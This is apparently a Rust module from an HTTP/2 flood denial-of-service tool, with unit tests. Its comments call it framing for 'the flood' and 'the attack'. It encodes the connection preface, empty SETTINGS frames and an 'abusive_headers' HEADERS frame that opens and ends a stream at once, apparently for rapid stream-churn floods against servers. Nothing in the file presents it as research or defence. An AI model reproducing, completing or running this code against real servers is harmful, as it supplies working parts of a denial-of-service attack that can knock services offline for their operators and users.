//! Byte-exact HTTP/2 framing for the handful of frames the flood emits.
//!
//! Only what the attack needs is modelled: the 9-byte frame header, an empty
//! SETTINGS frame (optionally ACKed) and a one-byte HEADERS frame that opens
//! and closes a stream in the same frame.

use bytes::{Buf, BufMut, BytesMut};

/// Frame header size (RFC 9113 §4.1).
pub const FRAME_HEADER_LEN: usize = 9;

/// Client connection preface, sent once before any frame.
pub const CONNECTION_PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Largest stream identifier expressible in 31 bits.
pub const MAX_STREAM_ID: u32 = 0x7fff_ffff;

/// HPACK indexed header field for static-table entry 8, `:status: 200`.
pub const STATUS_200_INDEXED: u8 = 0x88;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[repr(u8)]
pub enum FrameKind {
    Headers = 0x1,
    Settings = 0x4,
}

pub mod flags {
    pub const END_STREAM: u8 = 0x1;
    pub const ACK: u8 = 0x1; // SETTINGS/PING reuse bit 0
    pub const END_HEADERS: u8 = 0x4;
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct FrameHeader {
    /// Payload length; only the low 24 bits go on the wire.
    pub length: u32,
    pub kind: FrameKind,
    pub flags: u8,
    pub stream_id: u32,
}

impl FrameHeader {
    pub fn settings() -> Self {
        Self {
            length: 0,
            kind: FrameKind::Settings,
            flags: 0,
            stream_id: 0,
        }
    }

    pub fn settings_ack() -> Self {
        Self {
            flags: flags::ACK,
            ..Self::settings()
        }
    }

    /// A HEADERS frame carrying a single indexed field that also ends the stream.
    pub fn abusive_headers(stream_id: u32) -> Self {
        Self {
            length: 1,
            kind: FrameKind::Headers,
            flags: flags::END_HEADERS | flags::END_STREAM,
            stream_id,
        }
    }

    /// Writes the 9-byte wire form. The reserved bit of the stream id is always cleared.
    pub fn encode<B: BufMut>(&self, dst: &mut B) {
        dst.put_uint(u64::from(self.length & 0x00ff_ffff), 3);
        dst.put_u8(self.kind as u8);
        dst.put_u8(self.flags);
        dst.put_u32(self.stream_id & MAX_STREAM_ID);
    }

    /// Reads the 24-bit big-endian payload length from the front of a frame header.
    ///
    /// The caller must supply at least 3 bytes.
    pub fn peek_length(header: &[u8]) -> usize {
        let mut len = &header[..3];
        len.get_uint(3) as usize
    }
}

/// Arena-of-one scratch buffer for outgoing frames.
///
/// Every `encode_*` call overwrites the previous frame, which is only sound
/// because each frame is written out completely before the next one is
/// built. The `&mut self` receivers enforce that for a single owner; an
/// encoder must never be shared between concurrent writers.
#[derive(Debug)]
pub struct FrameEncoder {
    scratch: BytesMut,
}

impl FrameEncoder {
    pub fn new() -> Self {
        Self {
            scratch: BytesMut::with_capacity(FRAME_HEADER_LEN + 1),
        }
    }

    /// Encodes `header` followed by `payload`.
    ///
    /// `header.length` is not checked against `payload.len()`.
    pub fn encode(&mut self, header: FrameHeader, payload: &[u8]) -> &[u8] {
        self.scratch.clear();
        header.encode(&mut self.scratch);
        self.scratch.put_slice(payload);
        &self.scratch
    }

    pub fn settings(&mut self) -> &[u8] {
        self.encode(FrameHeader::settings(), &[])
    }

    pub fn settings_ack(&mut self) -> &[u8] {
        self.encode(FrameHeader::settings_ack(), &[])
    }

    pub fn abusive_headers(&mut self, stream_id: u32) -> &[u8] {
        self.encode(
            FrameHeader::abusive_headers(stream_id),
            &[STATUS_200_INDEXED],
        )
    }
}

impl Default for FrameEncoder {
    fn default() -> Self {
        Self::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn settings_frames_are_empty() {
        let mut enc = FrameEncoder::new();
        assert_eq!(enc.settings(), &[0, 0, 0, 4, 0, 0, 0, 0, 0]);
        assert_eq!(enc.settings_ack(), &[0, 0, 0, 4, 1, 0, 0, 0, 0]);
    }

    #[test]
    fn abusive_headers_layout() {
        let mut enc = FrameEncoder::new();
        assert_eq!(
            enc.abusive_headers(1),
            &[0, 0, 1, 1, 0x5, 0, 0, 0, 1, 0x88]
        );
        assert_eq!(
            enc.abusive_headers(0x0102_0305),
            &[0, 0, 1, 1, 0x5, 0x01, 0x02, 0x03, 0x05, 0x88]
        );
    }

    #[test]
    fn reserved_bit_is_never_set() {
        let mut buf = BytesMut::new();
        FrameHeader::abusive_headers(0xffff_ffff).encode(&mut buf);
        assert_eq!(buf.len(), FRAME_HEADER_LEN);
        assert_eq!(&buf[5..9], &[0x7f, 0xff, 0xff, 0xff]);
    }

    #[test]
    fn scratch_is_reused_between_frames() {
        let mut enc = FrameEncoder::new();
        let first = enc.abusive_headers(3).to_vec();
        let second = enc.settings().to_vec();
        assert_eq!(first.len(), FRAME_HEADER_LEN + 1);
        assert_eq!(second.len(), FRAME_HEADER_LEN);
    }

    #[test]
    fn peek_length_reads_24_bits() {
        assert_eq!(FrameHeader::peek_length(&[0x00, 0x00, 0x12, 4, 0]), 18);
        assert_eq!(FrameHeader::peek_length(&[0x01, 0x02, 0x03]), 0x010203);
    }
}
